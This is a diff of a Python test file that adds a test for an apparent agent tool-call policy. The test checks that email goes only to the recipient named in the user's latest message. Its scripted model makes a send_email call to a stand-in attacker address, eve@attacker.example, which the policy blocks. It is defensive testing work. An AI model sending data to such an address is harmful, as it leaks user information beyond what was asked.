@@ -17,7 +17,7 @@ from _pydantic_ai_support import (
     guarded,
 )
 from _readme import ReadmeSection
-from _scenario import DENY_MESSAGE, POLICY, SECRET
+from _scenario import DENY_MESSAGE, POLICY, REQUEST_POLICY, SECRET
 from pydantic_ai import Agent, DeferredToolRequests, DeferredToolResults, ToolApproved, ToolDenied
 from pydantic_ai.capabilities import AbstractCapability, HandleDeferredToolCalls
 from pydantic_ai.exceptions import AgentRunError, ModelRetry
@@ -164,6 +164,30 @@ async def test_tools_registered_on_the_agent_are_decided_too() -> None:
 
     await asyncio.wait_for(bot.run("go"), TIMEOUT)
     assert ran == [] and script.results()["c1"].content == DENY_MESSAGE
+
+
+async def test_the_users_latest_message_is_the_request_the_policy_sees() -> None:
+    """The recipient named in the latest prompt is allowed; one named only in an earlier turn
+    of the conversation is a stranger now."""
+    policy = REQUEST_POLICY
+    sent: list[str] = []
+    script = Script("Noted.", [call("c1", "send_email", to="carol@example.org"),
+                               call("c2", "send_email", to="eve@attacker.example")], "Done.")
+    bot = Agent(script.model, capabilities=[CallwardenCapability(policy)])
+
+    @bot.tool_plain
+    def send_email(to: str) -> str:
+        sent.append(to)
+        return f"sent to {to}"
+
+    first = await asyncio.wait_for(bot.run("Mail eve@attacker.example the notes"), TIMEOUT)
+    await asyncio.wait_for(bot.run("No, mail Carol@Example.org instead",
+                                   message_history=first.all_messages()), TIMEOUT)
+    seen = script.results()
+    assert sent == ["carol@example.org"]
+    assert (seen["c1"].content, seen["c1"].outcome) == ("sent to carol@example.org", "success")
+    assert (seen["c2"].content, seen["c2"].outcome) == ("Mail only people the user named.",
+                                                        "failed")
 
 
 # -- ask without an approver: Pydantic AI's deferred tool calls ---------------------------------
